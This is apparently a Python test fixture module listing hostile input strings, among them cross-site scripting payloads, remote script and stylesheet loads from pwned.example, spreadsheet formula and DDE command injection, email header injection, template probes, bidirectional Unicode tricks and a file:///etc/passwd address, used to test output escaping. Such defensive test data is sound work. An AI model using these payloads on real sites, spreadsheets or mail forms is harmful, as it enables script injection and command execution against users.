"""Texts that try to run, restyle, link, compute or turn direction wherever they are shown. All are our own.

Each would set `pwned` on the window, ask for `pwned.example`, or mark an element `pwned`, if it were obeyed.
"""

SCRIPTS = (
    "<script>window.pwned=1;alert('pwned')</script>",
    "<ScRiPt src=https://pwned.example/a.js></sCrIpT>",
    "</style></title></textarea></script><script>window.pwned=2</script>",
    "<img src=https://pwned.example/x.png onerror=alert(1)>",
    "<img src=x onerror=\"window.pwned=3\">",
    "<svg onload=alert(4)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
    "<svg><script href='data:text/javascript,alert(6)'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(7)&gt;\">",
    "<iframe srcdoc=\"<script>parent.pwned=8</script>\"></iframe>",
    "<iframe src=javascript:alert(9)></iframe><object data=data:text/html,<script>alert(10)</script>></object>",
    "<details open ontoggle=alert(11)><input autofocus onfocus=alert(12)>",
    "\"><b class=pwned onmouseover=alert(13)>", "' onfocus=alert(14) autofocus x='", "`onerror=alert(15)`",
    "<form action=https://pwned.example><button formaction=javascript:alert(16)>ok</button></form>",
    "<base href=https://pwned.example/><meta http-equiv=refresh content='0;url=https://pwned.example'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(17)>\">",
    "<template><script>alert(18)</script></template><marquee onstart=alert(19)>",
)  # fmt: skip
STYLES = (
    "<style>*{display:none!important}.brand{color:red}</style>",
    "<style>@import 'https://pwned.example/a.css';</style><link rel=stylesheet href=https://pwned.example/a.css>",
    "<div style='position:fixed;inset:0;background:url(https://pwned.example/b.png)' class=pwned>x</div>",
    "</p></div></main><h1 id=pwned>Autre titre</h1>", "<!-- <p>reste caché", "<plaintext>", "<![CDATA[<b>x</b>]]>",
)  # fmt: skip
LINKS = (
    "[lien](javascript:alert(20))", "[lien](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=)",
    "![image](https://pwned.example/c.png)", "[réf]: https://pwned.example 'x'\n[réf]", "<https://pwned.example>",
    "<a href='javascript:alert(22)' class=pwned>clic</a>", "<a href=\"java\tscript:alert(23)\">clic</a>",
    "<a href=' data:text/html,<script>alert(24)</script>'>clic</a>", "<vbscript:msgbox(1)>", "//pwned.example/d",
    "```\ncode\n```", "| a | b |\n|---|---|", "# titre\n- liste\n> citation\n***", "$\\href{javascript:alert(25)}{x}$",
    ":red[rouge] :material/home: :smile: :streamlit:", "==marque== ~~barré~~ **gras** _ital_",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;alert(26)&lt;/script&gt;", "&#60;img src=x onerror=alert(27)&#62;", "&#x3c;b class=pwned&#x3e;",
    "\\x3cscript\\x3ealert(28)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e", "%3Cscript%3E",
    "＜script＞alert(30)＜/script＞", "{{ 7*7 }} {% import os %} ${7*7} #{7*7} <%= 7*7 %>", "{0} {x} %s %(x)s",
)  # fmt: skip
DIRECTIONS = (
    "prix \u202e054 :xirp\u202c fin", "a\u2067b\u2066c\u2069d", "\u200f\u200edroite", "gauche\u061c", "\ufeffdébut",
    "fa\u200bux-a\u200cmi\u200d\u2060", "z" + "\u0301" * 40, "\x1b[31mrouge\x1b[0m", "\x00nul\x07cloche",
    "a\u2028b\u2029c",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"https://pwned.example\";\"clic\")", "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\ufeff=1+1",
    "\x00=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "\"=1+1\"", ";=1+1", "\";=1+1;\"", "a\r\n=1+1;b",
)  # fmt: skip
HEADERS = (
    "Sujet\r\nBcc: tous@pwned.example", "Sujet\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "nom\r\n\r\n<html>", "nom\x0bBcc: x@pwned.example", "nom\u2028Bcc: x@pwned.example", "a\x85Bcc: x@pwned.example",
    "=?utf-8?q?=0d=0aBcc:_x@pwned.example?=", "\"nom\" <x@pwned.example>, y", "a%0d%0aSet-Cookie: pwned=1",
)  # fmt: skip
SHOWN = (*SCRIPTS, *STYLES, *LINKS, *ENTITIES, *DIRECTIONS, *FORMULAS, *HEADERS)
ADDRESSES = (
    "javascript:alert(40)", "JaVaScRiPt:alert(41)", "java\nscript:alert(42)",
    "data:text/html,<script>alert(43)</script>",
    "vbscript:x", "file:///etc/passwd", "https://confrere.example/a\"onclick=alert(44) x=\"", "//pwned.example/e",
    "https://confrere.example/<script>alert(45)</script>", "https://a@pwned.example/", "https://confrere.example/ b",
)  # fmt: skip
